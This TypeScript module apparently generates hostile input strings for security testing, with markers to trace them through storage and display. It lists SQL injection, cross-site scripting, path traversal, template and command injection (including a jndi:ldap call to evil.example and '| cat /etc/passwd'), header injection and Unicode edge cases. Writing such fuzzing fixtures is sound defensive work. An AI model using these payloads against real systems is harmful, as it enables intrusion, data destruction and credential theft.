/** A string nobody means well with. `mark` finds it again wherever it is stored or shown. */
export type Hostile = { text: string; mark: string }

const sql = [
  "' or '1'='1",
  "'; drop table users; --",
  "') union select password_hash from users --",
  '1; select pg_sleep(5)',
  "\\'; update users set is_operator = true; --",
  '" or ""="',
  "admin'/*",
  '$$; select 1; $$',
  "x' and 1=cast((select version()) as int)--",
  '%27%20or%201=1',
]
const script = [
  '<script>window.hacked=1</script>',
  '<img src=x onerror="window.hacked=1">',
  '"><svg onload=window.hacked=1>',
  "' onmouseover='window.hacked=1",
  '</textarea><script>window.hacked=1</script>',
  '</script><script>window.hacked=1</script>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '[a](javascript:window.hacked=1)',
  '![x](x"onerror="window.hacked=1)',
  '<a href="data:text/html,<script>hacked=1</script>">a</a>',
  '<details open ontoggle=window.hacked=1>',
  '<math><mi xlink:href="javascript:hacked=1">',
  '<style>@import "//evil.example/x.css"</style>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password>',
  '<!--<img src="--><img src=x onerror=window.hacked=1//">',
]
const unicode = [
  '\u0000null\u0000',
  '\u0001\u0002\u0007\u001b[31mred',
  '\u202egnp.exe\u202c',
  '\u2066isolate\u2069',
  '\u200b\u200c\u200d\ufeff',
  'مرحبا بالعالم',
  'שלום\u200fעולם',
  '👩‍👩‍👧‍👦🏳️‍🌈🇯🇵',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢',
  '\ufffe\uffff',
  'ﷺ'.repeat(9),
  '½⅓Ⅷ①𝟘',
  'Ｆｕｌｌｗｉｄｔｈ',
  'ß İ ı ſ K',
  '\u2028\u2029line',
  '\ud83d alone',
]
const paths = [
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '/\\evil.example',
  '//evil.example/path',
  'https://evil.example',
  'javascript:alert(1)',
  'file:///etc/passwd',
  'C:\\Windows\\system32',
  'con.txt',
  '.git/config',
]
const templates = [
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process")()}}',
  '$(id)',
  '`id`',
  '| cat /etc/passwd',
  '%n%s%x',
  '__proto__',
  'constructor',
  '{"$gt":""}',
  '*)(uid=*',
  '=cmd|calc!A1',
  '⟦time:2026-11-21T00:00:00Z⟧',
]
const breaks = [
  'a\r\nSet-Cookie: hacked=1',
  'a\nBcc: victim@example.com',
  'a\rb',
  '\r\n\r\n<html>',
  'a%0d%0aLocation: https://evil.example',
  '\t\t\t',
  '   ',
  'a\u0085b',
]
const numbers = [
  '-1',
  '0',
  '1e309',
  'NaN',
  'Infinity',
  '0x7fffffff',
  '9'.repeat(40),
  '1,5',
  '١٢٣',
  '1.0000000001',
  'true',
  'null',
]
const long = [
  'a'.repeat(300),
  'ab '.repeat(2_000),
  '😀'.repeat(500),
  '<'.repeat(5_000),
  '\n'.repeat(3_000),
  '*'.repeat(20_001),
  '[]('.repeat(300),
  '> '.repeat(500),
]

const kinds = [sql, script, unicode, paths, templates, breaks, numbers, long]

/** `count` different strings: each of the list, then each again, twisted and joined with its neighbours. */
export function hostileStrings(count: number): Hostile[] {
  const base = kinds.flat()
  const twists = [
    (text: string) => text,
    (text: string, other: string) => `${text} ${other.slice(0, 60)}`,
    (text: string) => encodeURIComponent(Buffer.from(text).toString()),
    (text: string) => [...text].reverse().join(''),
    (text: string) => `\u202e${text.toUpperCase()}`,
    (text: string, other: string) => `${other.slice(0, 40)}${text}`,
  ]

  return Array.from({ length: count }, (_, index) => {
    const twist = twists[Math.floor(index / base.length) % twists.length]
    const text = base[index % base.length] ?? ''
    const mark = `mk${index.toString(36).padStart(3, '0')}`

    return { mark, text: `${twist?.(text, base[(index * 7 + 3) % base.length] ?? '') ?? text}${mark}` }
  })
}
